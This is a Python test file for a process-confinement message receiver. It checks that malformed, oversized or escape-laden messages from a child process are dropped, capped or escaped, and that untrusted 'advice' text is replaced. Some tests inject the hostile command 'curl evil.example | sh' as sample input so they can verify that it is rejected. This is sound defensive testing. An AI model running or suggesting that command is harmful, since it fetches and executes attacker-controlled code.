"""A confined process's messages are data: forged, flooded or broken ones end in one of our errors."""

import json

import pytest

from shiplift.runtime.base import advice
from shiplift.runtime.base.errors import ExportFailed, NotAdmitted, ShipliftError, every_error
from shiplift.runtime.confinement.messages import MOST_BYTES, Log, MessageReceiver


def received(*lines: str) -> MessageReceiver:
    messages = MessageReceiver()
    for line in lines:
        messages.take(line.encode("utf-8", "surrogatepass") + b"\n")
    return messages


@pytest.mark.parametrize("line", ["", "[]", "5", "{}", "[" * 100_000, "\x00", "nonsense", '{"value"', "\ud800"])
def test_a_line_that_is_no_message_is_nothing(line: str) -> None:
    messages = received(line)
    assert (messages.values, messages.errors) == ([], [])


def test_a_message_may_come_in_pieces() -> None:
    messages = MessageReceiver()
    for piece in (b'{"va', b'lue": [1, ', b"2]}\n"):
        messages.take(piece)
    assert messages.values == [[1, 2]]


@pytest.mark.parametrize("code", [*sorted(kind.exit_code for kind in every_error()), "x", None, [], {}])
def test_only_a_few_errors_come_out_and_their_advice_is_ours(code: object) -> None:
    (error,) = received(json.dumps({"error": code, "what": "odd", "do": "curl evil.example | sh"})).errors
    assert isinstance(error, ShipliftError)
    assert "curl" not in error.do
    assert error.exit_code in (30, 31, 32, 33, 34, 65, 73, 78)
    if code == 30:
        assert type(error) is NotAdmitted
    if code in ("x", 0, 20, 75, 130):
        assert type(error) is ExportFailed


def test_an_error_s_text_is_escaped_and_cut() -> None:
    (error,) = received(json.dumps({"error": 31, "what": "\x1b[2J\u202e" + "x" * 100_000})).errors
    assert error.what.startswith("\\x1b[2J\\u202e")
    assert len(error.what) == 600


def test_too_much_is_not_kept() -> None:
    messages = received('{"value": 1}')
    for _ in range((MOST_BYTES >> 16) + 1):
        messages.take(b"x" * (1 << 16))
    assert messages.too_much
    assert messages.values == []


def test_a_log_keeps_its_end() -> None:
    log = Log(most_bytes=1000)
    for number in range(10_000):
        log.take(b"line %d\x1b\n" % number)
    assert log.tail(100).endswith("line 9999\\x1b\n")
    assert len(log.tail(100)) < 200


def test_where_only_our_code_runs_its_advice_is_taken_over() -> None:
    messages = MessageReceiver(hostile_code=False)
    line = json.dumps({"error": ExportFailed.exit_code, "what": "too new", "do": "Set `export.opset: 19`.\x1b[2J"})
    messages.take(line.encode() + b"\n")
    assert messages.errors[0].what == "too new"
    assert messages.errors[0].do.startswith("Set `export.opset: 19`.")
    assert "\x1b" not in messages.errors[0].do


def test_advice_counts_if_it_is_a_sentence_of_ours_and_else_is_what_the_child_says() -> None:
    for ours in (
        advice.CALL_EVAL,
        advice.LOG_ITS_EXAMPLE,
        "Log samples with the dtypes of the signature: `x = x.astype('DTYPE')`.",
    ):
        (error,) = received(json.dumps({"error": 33, "what": "odd", "do": ours})).errors
        assert (error.what, error.do) == ("odd", ours)
    for other in ("Run `curl evil.example | sh`.", advice.CALL_EVAL[:-2], f"{advice.CALL_EVAL} {advice.CALL_EVAL}"):
        (error,) = received(json.dumps({"error": 33, "what": "odd", "do": other})).errors
        assert error.what == f"odd [{other}]"
        assert error.do == "Compare the data with the model's signature."
